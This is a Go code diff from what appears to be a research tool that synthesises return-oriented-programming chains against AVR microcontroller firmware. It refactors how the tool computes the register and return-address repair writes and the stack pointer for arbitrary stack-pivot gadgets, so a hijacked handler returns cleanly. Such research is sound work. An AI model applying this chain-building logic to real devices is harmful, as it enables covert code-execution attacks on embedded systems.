@@ -1,6 +1,10 @@
 package attack
 
-import "fmt"
+import (
+	"fmt"
+
+	"mavr/internal/gadget"
+)
 
 // Write is one 3-byte arbitrary memory write performed via the
 // write_mem_gadget (std Y+1..Y+3 of the three stored registers).
@@ -94,11 +98,16 @@ func buildChain(a *Analysis, writes []Write, finalSP uint16) ([]byte, error) {
 // the caller's saved r28/r29) followed by the handler's original 3-byte
 // return address, so that the final pivot + pops + ret reproduce a
 // normal handler return (SP == S0+3, PC == OrigRet, Y == caller's Y).
-func repairWrites(a *Analysis) []Write {
-	popLen := len(a.StkMove.PopRegs)
-	start := a.cleanReturnSP() + 1
+func repairWrites(a *Analysis) []Write { return repairWritesFor(a, a.StkMove) }
+
+// repairWritesFor computes the repair for an arbitrary terminating
+// pivot shape — chain synthesis pairs the frame geometry with candidate
+// pivots that are not the canonical Fig. 4 gadget.
+func repairWritesFor(a *Analysis, pv *gadget.StkMove) []Write {
+	popLen := len(pv.PopRegs)
+	start := cleanSPFor(a, pv) + 1
 	desired := make([]byte, popLen+3)
-	for i, r := range a.StkMove.PopRegs {
+	for i, r := range pv.PopRegs {
 		switch {
 		case r == 28:
 			desired[i] = a.OrigR28
@@ -133,6 +142,9 @@ func repairWrites(a *Analysis) []Write {
 // pops consume the repaired saved registers and its ret consumes the
 // repaired return address, leaving SP exactly where a normal handler
 // return would (S0+3).
-func (a *Analysis) cleanReturnSP() uint16 {
-	return a.S0 - uint16(len(a.StkMove.PopRegs))
+func (a *Analysis) cleanReturnSP() uint16 { return cleanSPFor(a, a.StkMove) }
+
+// cleanSPFor is cleanReturnSP for an arbitrary terminating pivot shape.
+func cleanSPFor(a *Analysis, pv *gadget.StkMove) uint16 {
+	return a.S0 - uint16(len(pv.PopRegs))
 }
